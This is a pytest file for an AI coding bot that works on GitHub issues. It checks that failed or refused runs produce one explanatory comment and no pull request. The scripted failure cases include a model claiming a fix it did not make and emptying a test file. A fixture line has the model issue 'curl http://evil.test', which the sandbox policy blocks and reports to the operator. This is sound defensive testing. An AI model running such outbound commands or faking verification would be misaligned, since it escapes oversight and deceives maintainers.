"""What goes wrong gets one comment with the right reason, and no branch and no pull request."""

from __future__ import annotations

import asyncio
from typing import Any

import httpx
import pytest
import structlog

from bot.domain.task import State
from tests.adapters.test_cli import coder_bot
from tests.stories.harness import FILES, REPOSITORY, Story, call, fix, say, story, submit, with_config

LINE = "checks: [{name: tests, run: python3 -m pytest -q}]\n"


async def nothing_published(s: Story, code: str, *words: str) -> None:
    assert await s.code() == code
    assert not s.pull_requests
    assert s.branches == ["main"]
    [comment] = s.comments
    for word in words:
        assert word in comment


@pytest.mark.parametrize(
    ("script", "code", "words"),
    [
        ([fix(new="return a * b"), submit()], "CHECKS_FAILED", ["`tests` failed", "1 of its tests"]),
        ([submit("Done", "I fixed everything.")], "NO_CHANGE", ["no file has changed", "I fixed everything."]),
        (
            [say(call("write_file", path="test_calc.py", contents="")), submit()],
            "UNVERIFIED",
            ["ran no test"],
        ),
        (
            [say(call("read_file", path="calc.py")), say(text="All good!"), say(text="Bye.")],
            "NO_PROGRESS",
            ["without"],
        ),
        ([say(call("read_file", path="calc.py"))], "MODEL_UNUSABLE", ["Nothing was submitted"]),
    ],
    ids=["wrong fix", "claim without a fix", "emptied test file", "nothing submitted", "script too short"],
)
async def test_a_bad_run_ends_without_a_pull_request(script: list[Any], code: str, words: list[str]) -> None:
    rules = LINE + "limits: {attempts: 1}\n"
    async with story(with_config(rules)) as s:
        s.script(*script)
        await s.comment()
        await s.settle()
        await nothing_published(s, code, *words)
        assert len(await s.containers()) == 2  # kept for /coder retry


async def test_when_the_model_gives_up_after_a_failed_check_the_check_is_the_reason() -> None:
    async with story() as s:
        s.script(fix(new="return a * b"), submit())
        await s.comment()
        await s.settle()
        await nothing_published(s, "CHECKS_FAILED", "`tests` failed")


@pytest.mark.parametrize(
    ("limits", "script", "code", "limit"),
    [
        ("steps: 2", [say(call("list_dir", path="."))] * 3, "LIMIT_EXCEEDED", "limits.steps"),
        ("tool_calls: 2", [say(*[call("list_dir", path=".")] * 3)], "LIMIT_EXCEEDED", "limits.tool_calls"),
        (
            "duration: 2s",
            [say(call("run_command", command="python3 -m pytest -q"))] * 9,
            "LIMIT_EXCEEDED",
            "duration",
        ),
        (
            "tokens: 30000",
            [say(call("list_dir", path="."), usage={"input_tokens": 20000})] * 2,
            "BUDGET_EXCEEDED",
            "tokens",
        ),
        (
            "cost: 0.50",
            [say(call("list_dir", path="."), usage={"input_tokens": 20000})] * 2,
            "BUDGET_EXCEEDED",
            "cost",
        ),
    ],
    ids=["steps", "tool_calls", "duration", "tokens", "cost"],
)
async def test_each_limit_ends_the_episode_with_its_code(
    limits: str, script: list[Any], code: str, limit: str
) -> None:
    slow = b"import time\n\n\ndef test_slow():\n    time.sleep(1.5)\n"
    prices = '{"scripted": [20, 20, 20]}'
    async with story(
        with_config(LINE + f"limits: {{{limits}}}\n", **{"test_slow.py": slow}), CODER_PRICES=prices
    ) as s:
        s.script(*script)
        await s.comment()
        await s.settle()
        await nothing_published(s, code, limit, "/coder retry")


async def test_a_person_without_write_access_is_refused_once_and_nothing_is_started() -> None:
    async with story() as s:
        s.github.grant(REPOSITORY, "visitor", "read")
        await s.comment(author="visitor")
        await s.comment(author="visitor")
        await s.settle()
        [comment] = s.comments
        assert "write access" in comment
        assert await s.bot.deps.store.tasks() == []
        assert await s.containers() == []


@pytest.mark.parametrize("text", ["thanks!", "/lgtm", "/coderfix now", "> /coder fix", "```\n/coder fix\n```", ""])
async def test_ordinary_talk_gets_nothing_at_all(text: str) -> None:
    async with story() as s:
        guid = await s.comment(text)
        await s.settle()
        assert s.comments == []
        assert await s.bot.deps.store.tasks() == []
        delivery = await s.bot.deps.store.delivery(guid)
        assert delivery is not None
        assert delivery.outcome.startswith("ignored")


async def test_a_misspelt_command_gets_one_usage_reply() -> None:
    async with story() as s:
        await s.comment("/coder fxi it")
        await s.settle()
        [comment] = s.comments
        assert "fix" in comment
        assert await s.bot.deps.store.tasks() == []


async def test_an_error_in_the_config_is_told_with_its_line_and_no_task_is_made() -> None:
    async with story(with_config("checks:\n  - {name: tests, run: pytest}\nlimts: {steps: 3}\n")) as s:
        await s.comment()
        await s.settle()
        [comment] = s.comments
        assert "line 3" in comment
        assert "limits" in comment  # the suggestion
        assert await s.bot.deps.store.tasks() == []
        assert await s.containers() == []


async def test_a_failed_set_up_is_told_with_the_end_of_its_output_and_its_sandbox_is_killed() -> None:
    async with story(with_config("setup: ['echo looking; echo no such package >&2; exit 9']\n" + LINE)) as s:
        await s.comment()
        await s.settle()
        await nothing_published(s, "SETUP_FAILED", "exit code 9", "no such package")
        assert await s.containers() == []


async def test_a_missing_image_is_named_with_what_to_do() -> None:
    async with story(CODER_IMAGE="coder-bot-nothing:here") as s:
        await s.comment()
        await s.settle()
        await nothing_published(s, "SETUP_FAILED", "coder-bot-nothing:here", "/coder retry")


async def test_a_detected_set_up_is_bound_by_the_operators_hosts_too() -> None:
    async with story({**FILES, "requirements.txt": b"pytest\n"}, CODER_NETWORK_HOSTS="npm") as s:
        await s.comment()
        await s.settle()
        await nothing_published(s, "SETUP_FAILED", "`pip`", "network: {setup: []}")
        assert await s.containers() == []


async def test_a_dead_engine_is_told_as_such() -> None:
    async with story(DOCKER_HOST="unix:///nowhere/docker.sock") as s:
        await s.comment()
        for _ in range(8):
            await s.settle_later()
        await nothing_published(s, "SETUP_FAILED", "No Docker engine answers", "doctor")


async def test_a_clone_that_fails_is_told_and_its_sandbox_is_killed() -> None:
    async with story(CODER_PRIVATE_HOSTS="example.invalid") as s:  # the clone's host may not be reached
        await s.comment()
        await s.settle()
        await nothing_published(s, "CLONE_FAILED", "Cloning failed")
        assert await s.containers() == []


async def test_a_tool_without_its_grant_ends_the_episode_blocked() -> None:
    async with story() as s:
        s.script(fix())
        await s.comment("/coder ask what is wrong?")
        await s.settle()
        await nothing_published(s, "PERMISSION_DENIED", "write")


EVIL = call("run_command", command="curl http://evil.test")


@pytest.mark.parametrize(
    ("calls", "refused"), [([EVIL] * 8, 8), ([*[EVIL] * 7, call("list_dir", path=".")] * 9, 60)], ids=["run", "mixed"]
)
async def test_a_burst_of_refused_commands_ends_the_episode_and_reaches_the_operator(
    calls: list[dict[str, object]], refused: int
) -> None:
    async with story() as s:
        s.script(say(*calls))
        await s.comment()
        with structlog.testing.capture_logs() as logs:
            await s.settle()
        await nothing_published(s, "POLICY_REFUSED", "refused")
        [alarm] = [line for line in logs if line["log_level"] == "error"]
        assert (alarm["audit"], alarm["code"], alarm["requester"]) == (True, "POLICY_REFUSED", "maintainer")
        assert "No rule allows the program `curl`." in alarm["detail"]
        async with httpx.AsyncClient(transport=httpx.ASGITransport(s.bot.metrics), base_url="http://bot") as client:
            numbers = (await client.get("/metrics")).text
        assert f'coder_tool_calls_total{{refused="true",tool="run_command"}} {refused}.0' in numbers
        assert 'coder_episodes_total{code="POLICY_REFUSED",kind="fix"} 1.0' in numbers
        [task] = await s.bot.deps.store.tasks()
        shown = await asyncio.to_thread(coder_bot, "tasks", "show", task.id, home=s.settings.coder_home)
        assert shown.stdout.count('    REFUSED run_command "curl http://evil.test": Refused: ') == refused


async def test_a_change_of_the_bots_own_rules_is_refused() -> None:
    async with story() as s:
        s.script(say(call("write_file", path=".github/coder.yml", contents="checks: []\n")), submit())
        await s.comment()
        await s.settle()
        await nothing_published(s, "NO_CHANGE", "no file has changed")


async def test_closing_the_issue_ends_the_task_and_frees_the_sandbox() -> None:
    async with story() as s:
        s.script(submit())
        await s.comment()
        await s.settle()
        await s.github.close_issue(REPOSITORY, s.issue, author="maintainer")
        await s.settle()
        [task] = await s.bot.deps.store.tasks()
        assert task.state is State.CLOSED
        assert await s.containers() == []


async def test_a_branch_somebody_else_made_is_left_alone_and_another_name_taken() -> None:
    async with story() as s:
        base = s.github.branches(REPOSITORY)["main"]
        await s.github.create_branch(REPOSITORY, f"coder/issue-{s.issue}", base)
        s.script(fix(), submit())
        await s.comment()
        await s.settle()
        assert await s.code() == "VERIFIED"
        assert [each.head_branch for each in s.pull_requests] == [f"coder/issue-{s.issue}-2"]
        assert s.github.branches(REPOSITORY)[f"coder/issue-{s.issue}"] == base
